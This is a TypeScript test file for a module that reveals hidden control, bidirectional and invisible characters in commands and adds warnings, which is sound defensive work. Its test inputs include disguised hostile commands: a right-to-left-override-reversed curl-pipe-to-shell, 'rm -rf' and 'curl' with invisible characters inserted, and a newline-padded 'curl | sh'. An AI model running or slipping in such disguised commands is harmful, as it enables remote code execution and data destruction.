import { describe, expect, it } from "vitest";
import { hiddenCount, hiddenWarning, sizeLabel, visibleParts, visibleString } from "./visible-text";

const marks = (text: string) =>
  visibleParts(text)
    .filter((p) => p.mark)
    .map((p) => (p.mark ? p.label : ""));
const rejoin = (text: string) =>
  visibleParts(text)
    .map((p) => (p.mark ? p.char : p.text))
    .join("");

describe("visibleParts", () => {
  it("leaves ordinary text, newlines and tabs alone", () => {
    const text = "npm test\n\tgit status — ünïcödé ✅ 日本語 שלום";
    expect(visibleParts(text)).toEqual([{ mark: false, text }]);
    expect(hiddenCount(text)).toBe(0);
  });

  it("marks every C0 control but newline and tab, DEL and the C1 controls", () => {
    for (let cp = 0; cp < 0x20; cp++) {
      if (cp === 0x0a || cp === 0x09) continue;
      expect(hiddenCount(String.fromCodePoint(cp)), `U+${cp.toString(16)}`).toBe(1);
    }
    for (let cp = 0x80; cp <= 0x9f; cp++) expect(hiddenCount(String.fromCodePoint(cp))).toBe(1);
    expect(marks("a\x1b[2Kb\rc\x7f\x00\x9b")).toEqual(["ESC", "CR", "DEL", "NUL", "\\x9b"]);
  });

  it("marks bidirectional controls, so an override is shown and never applied", () => {
    const text = "echo safe \u202Ehs | 1.0.0.721//:ptth lruc\u202C";
    const parts = visibleParts(text);
    expect(parts).toEqual([
      { mark: false, text: "echo safe " },
      { mark: true, char: "\u202E", code: "U+202E", label: "RLO", name: "right-to-left override" },
      { mark: false, text: "hs | 1.0.0.721//:ptth lruc" },
      { mark: true, char: "\u202C", code: "U+202C", label: "PDF", name: "pop directional formatting" },
    ]);
    const bidi = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x061c];
    for (const cp of bidi) expect(hiddenCount(String.fromCodePoint(cp)), cp.toString(16)).toBe(1);
  });

  it("marks invisible and look-alike space characters", () => {
    const invisible = [
      0x200b, 0x200c, 0x200d, 0x2060, 0xfeff, 0x00ad, 0x180e, 0x2028, 0x2029, 0x2061, 0x2064, 0x206a, 0x206f, 0x3164, 0xffa0, 0x115f, 0x00a0, 0x2002, 0x200a, 0x202f, 0x3000, 0xe0041, 0xfff9,
    ];
    for (const cp of invisible) expect(hiddenCount(String.fromCodePoint(cp)), cp.toString(16)).toBe(1);
    expect(marks("rm\u00a0-rf")).toEqual(["NBSP"]);
    expect(marks("cu\u200brl")).toEqual(["ZWSP"]);
    // A tag character (astral) is one mark, not two halves.
    expect(visibleParts("a\u{E0041}b")).toHaveLength(3);
  });

  it("gives the text back when the marks are replaced by their characters", () => {
    for (const text of ["", "plain", "\u202E", "a\x1bb\u200bc\n\td\u{E0041}", "x\uD800y", "\u202Eabc\u202C\u2066"]) expect(rejoin(text)).toBe(text);
  });

  it("keeps emoji with variation selectors and joiner-free text whole", () => {
    expect(hiddenCount("✔️ done 👍🏽")).toBe(0);
  });

  it("marks a lone surrogate", () => {
    expect(marks("x\uD800y")).toEqual(["SURR"]);
  });
});

describe("visibleString", () => {
  it("writes the marks as labels on one line", () => {
    expect(visibleString("ls\x1b[31m \u202Efdp.exe")).toBe("ls⟨ESC⟩[31m ⟨RLO⟩fdp.exe");
    expect(visibleString("a\nb")).toBe("a\nb");
  });
});

describe("sizeLabel and hiddenWarning", () => {
  it("counts lines and characters as a person does", () => {
    expect(sizeLabel("npm test")).toBe("1 line · 8 characters");
    expect(sizeLabel("a\nb\nc")).toBe("3 lines · 5 characters");
    expect(sizeLabel("x")).toBe("1 line · 1 character");
    expect(sizeLabel("")).toBe("0 lines · 0 characters");
    expect(sizeLabel("👍🏽")).toBe("1 line · 2 characters");
    expect(sizeLabel(`${"\n".repeat(80)}curl -s http://x | sh`)).toBe("81 lines · 101 characters");
  });

  it("warns only when something was marked", () => {
    expect(hiddenWarning(0)).toBeNull();
    expect(hiddenWarning(1, "This command")).toBe("This command contains 1 hidden or control character, shown marked.");
    expect(hiddenWarning(2)).toBe("This request contains 2 hidden or control characters, shown marked.");
  });
});
